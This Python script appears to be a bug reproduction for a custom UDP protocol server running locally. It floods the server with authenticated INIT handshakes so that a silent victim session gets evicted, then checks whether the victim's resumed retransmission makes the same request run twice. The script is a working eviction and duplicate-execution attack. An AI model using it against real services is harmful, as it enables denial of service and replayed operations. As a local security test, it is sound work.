"""Variant (victim silent SIL s; usage: PORT SIL) of repro_evict.py: the flooder keeps its own sessions non-silent, so the
victim's silent session is the one a new INIT replaces. Usage: repro_evict_fast.py PORT (fresh server)."""
import sys, os, time, socket, struct, hashlib, collections; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from v5 import *
PORT = int(sys.argv[1]); kid, psk = load_client(); SRV = ("127.0.0.1", PORT)
fs = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fs.bind(("127.0.0.1", 0)); fs.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
mine = []
def flood(n, keep=True):
    pend = {}
    for i in range(n):
        hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32)
        ini = make_init(psk, kid, hid, e, int(time.time() * 1000)); pend[hid] = (ini, e); fs.sendto(ini, SRV); time.sleep(0.0018)
    fs.settimeout(0.2)
    try:
        while True:
            d = fs.recv(2000); h = parse_hdr(d)
            if h["typ"] == T_ACCEPT and h["req_id"] in pend and keep:
                ini, e = pend.pop(h["req_id"]); kc, ks, _, _ = derive(psk, ini, d, nb.crypto_scalarmult(e, d[34:66]))
                mine.append(Sess(struct.unpack(">Q", d[26:34])[0], kc, ks, 0))
    except socket.timeout: pass
def touch_all():
    for i, s in enumerate(mine):
        s.ctr += 1; fs.sendto(s.seal(T_REQ, 99, 1, 0, 1, 1, 0, b"x"), SRV)
        if i % 4 == 0: time.sleep(0.001)
    fs.settimeout(0.2)
    try:
        while True: fs.recv(2000)
    except socket.timeout: pass
def ans(c, s): return [c.classify(x, s)[0] for x in c.recv_all(0.15)]
flood(2200); print("flooder holds", len(mine), "sessions")
v = Client(PORT); A = v.handshake(); X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
v.send(v.req_dgrams(1, rid, X)[0]); print("X under A:", ans(v, A)); t = time.time()
touch_all(); print(f"+{time.time()-t:.2f}s flooder touched its sessions")
SIL = float(sys.argv[2]) if len(sys.argv) > 2 else 2.0
while time.time() - t < SIL: time.sleep(0.05)
for k in range(3):
    flood(60 if k == 0 else 300, keep=False)
    v.send(v.req_dgrams(1, rid, X)[0]); a = ans(v, A)
    print(f"+{time.time()-t:.2f}s after INIT batch {k}, victim retransmits X under A:", a)
    if "NO_SESSION" in a:
        B = v.handshake(prev=A); v.send(v.req_dgrams(1, rid, X, sess=B)[0]); print("resumed (prev=A), X resent:", ans(v, B)); break
n = collections.Counter(l.strip() for l in open(os.path.join(os.environ.get("ATTACK_DIR", "/tmp/attack"), f"runs.{PORT}.log")))[hashlib.sha256(X).hexdigest()]
print("X ran", n, "times", "<-- RAN TWICE" if n > 1 else "")
